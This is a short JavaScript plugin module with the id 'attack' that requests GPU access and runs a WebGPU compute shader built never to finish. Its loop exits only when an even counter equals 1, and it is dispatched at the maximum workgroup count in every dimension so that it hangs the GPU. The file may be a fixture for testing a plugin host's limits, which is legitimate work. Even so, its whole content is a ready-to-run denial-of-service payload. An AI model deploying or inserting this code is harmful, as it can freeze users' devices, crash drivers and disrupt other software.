async function device() {
  const adapter = await navigator.gpu.requestAdapter();
  return await adapter.requestDevice();
}

// Some devices leave a loop after a while, so there are more turns of it than anything gets through.
const ENDLESS = `
@group(0) @binding(0) var<storage, read_write> cell: array<atomic<u32>>;
@compute @workgroup_size(64) fn main() {
  loop {
    if (atomicAdd(&cell[0], 2u) == 1u) { break; }
  }
}`;

export default {
  metadata: { id: "attack", version: "1.0.0", permissions: { gpu: true } },
  onLoad({ services }) {
    services.provide("attack", {
      async run() {
        const gpu = await device();
        const module = gpu.createShaderModule({ code: ENDLESS });
        const pipeline = gpu.createComputePipeline({
          layout: "auto",
          compute: { module, entryPoint: "main" },
        });
        const buffer = gpu.createBuffer({ size: 16, usage: GPUBufferUsage.STORAGE });
        const encoder = gpu.createCommandEncoder();
        const pass = encoder.beginComputePass();
        pass.setPipeline(pipeline);
        pass.setBindGroup(0, gpu.createBindGroup({
          layout: pipeline.getBindGroupLayout(0),
          entries: [{ binding: 0, resource: { buffer } }],
        }));
        pass.dispatchWorkgroups(65535, 65535, 65535);
        pass.end();
        gpu.queue.submit([encoder.finish()]);
        await gpu.queue.onSubmittedWorkDone();
        return "done";
      },
    });
  },
};
